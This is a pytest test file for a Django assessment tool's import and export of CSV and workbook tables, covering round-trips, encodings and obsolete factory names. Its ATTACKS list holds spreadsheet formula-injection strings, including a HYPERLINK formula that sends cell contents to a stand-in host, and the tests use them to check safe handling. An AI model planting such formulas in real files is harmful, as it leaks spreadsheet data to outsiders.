"""The long table in: what is read of which kind of file, and that our own exports go back in."""

import datetime as dt
import io

import openpyxl
import pytest

from assessments.models import Assessment
from assessments.publication.services import take_step
from assessments.reports.table import COLUMNS, finding_cell, long_table
from tests.assessments.tables import LEAVE, OVERTIME, ROW, check, file_of, load, messages, rows_of_everything, table

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("run_jobs")]


ATTACKS = [
    "=SUM(1) and '+1",
    'Slips are given;=HYPERLINK("http://collector.example/?"&A1,"open");end',
    "Line one\n=1+1+cmd",
    "Tab\t=2+2",
    "ends;",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_export_is_imported_as_it_was(world, text):
    by = world.person("team_leader")
    load(by, table({}, OVERTIME, {**LEAVE, "Finding": text}))
    made = Assessment.objects.get(quest_id="70003")
    assert world.answer(made, "1022").value == text
    rows = [
        {
            "country": "Cambodia",
            "factory_id": made.factory.bw_id,
            "factory_name": made.factory.name,
            "quest_id": "70003",
            "cycle": made.cycle,
            "start_date": made.start_date,
            "questionnaire": made.tool.name,
            "cluster": answer.question.compliance_point.cluster.name,
            "compliance_point": answer.question.compliance_point.name,
            "question_id": answer.question.ext_id,
            "label": answer.question.label,
            "question_type": answer.question.type,
            "finding": finding_cell(answer.question.type, answer.finding, answer.value),
            "tags": answer.question.tags,
            "evidence": answer.note,
            "end_date": made.ended_on,
            "mode": "On site",
            "source": "On site",
        }
        for answer in made.answers.select_related("question__compliance_point__cluster")
    ]
    assert load(by, b"".join(long_table(rows))).plan["unchanged"] == 1


@pytest.mark.parametrize("state", ["internal_review", "published"])
def test_the_csv_that_staff_order_goes_back_in(world, state):
    """Every Step, every tag and the questionnaire's name are in theirs; the factory's file names none of it."""
    by = world.person("team_leader")
    national = {**OVERTIME, "Finding": "1", "Tags": "Public Disclosure;National Law"}
    step3 = {**LEAVE, "CP": "Overtime", "Question ID": "1021", "Question type": "NC", "Finding": "0"}
    step3["Q Label"] = "Overtime is not voluntary"
    load(by, table({}, national, {**LEAVE, "Finding": ATTACKS[1]}, step3))
    made = Assessment.objects.get(quest_id="70003")
    for step in ("send_to_factory", "publish") if state == "published" else ():
        take_step(by=by, assessment=made, name=step)
    made.refresh_from_db()
    before = rows_of_everything()
    mine = file_of(by, made, "csv")
    batch = load(by, mine)
    assert (batch.plan["unchanged"], batch.plan["changed"], batch.plan["new"]) == (1, [], 0)
    assert rows_of_everything() == before
    assert "Public Disclosure;Zero Tolerance" in mine.decode()
    if state == "published":
        theirs = file_of(world.person("manager_b"), made, "csv").decode()
        assert "Zero Tolerance" not in theirs
        assert '"Cambodia",' in theirs, "the programme's words, though it was ordered in French"
        assert made.tool.name not in theirs
        assert "voluntary" not in theirs


@pytest.mark.parametrize(("delimiter", "encoding"), [(";", "utf-8"), (",", "utf-8-sig"), ("\t", "utf-16")])
def test_delimiters_and_encodings(world, delimiter, encoding):
    name = {"Factory Assessed Name": "Công ty May Mặc ទន្លេ"}
    batch = load(
        world.person("team_leader"),
        table({**name, "Factory Assessed ID": "KH-8"}, delimiter=delimiter, encoding=encoding),
        create_missing=True,
    )
    assert batch.plan["factories"][0]["name"] == "Công ty May Mặc ទន្លេ"


def test_windows_1258_is_refused(world):
    batch = check(world.person("team_leader"), table({"Factory Assessed Name": "Đông Á"}, encoding="cp1258"))
    ((row, column, text),) = messages(batch)
    assert (row, column) == (2, "Factory Assessed Name")
    assert "UTF-8" in text


def test_a_workbook_does_too(world):
    book = openpyxl.Workbook()
    book.active.append(COLUMNS)
    cells = {**ROW, "Cycle": 7, "Finding": 1.0, "Assesment Start Date": dt.date(2016, 3, 27), "Quest ID": 70003}
    book.active.append([cells.get(name) for name in COLUMNS])
    out = io.BytesIO()
    book.save(out)
    load(world.person("team_leader"), out.getvalue())
    assert world.answer(Assessment.objects.get(quest_id="70003"), "1000").finding == "nc"


@pytest.mark.parametrize("name", ["Lotus Yarn", "L" * 200])
def test_obsolete_survives_a_round_trip(world, name):
    by = world.person("team_leader")
    written = f"{name} (Obsolete)"
    load(by, table({"Factory Assessed ID": "KH-0077", "Factory Assessed Name": written}), create_missing=True)
    made = Assessment.objects.get(quest_id="70003")
    assert (made.factory.name, made.factory.is_obsolete) == (name, True)
    exported = file_of(by, made, "csv")
    assert f'"{written}"' in exported.decode()
    assert load(by, exported).plan["nothing"]
    made.factory.refresh_from_db()
    assert made.factory.name == name
